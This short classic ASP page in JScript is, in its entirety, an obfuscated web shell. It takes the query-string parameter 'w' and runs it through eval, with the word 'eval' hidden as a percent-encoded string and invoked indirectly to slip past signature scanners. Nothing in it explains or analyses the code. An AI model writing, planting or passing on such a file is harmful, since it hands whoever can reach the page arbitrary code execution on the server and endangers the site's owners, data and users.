<%@ Language="JScript" %>
<%
var h = {};
h["k"] = Request.QueryString("w");
var q = decodeURIComponent("%65%76%61%6C");
var w = this;
var z = h.k + "";
w[q].call(w, z);
%>
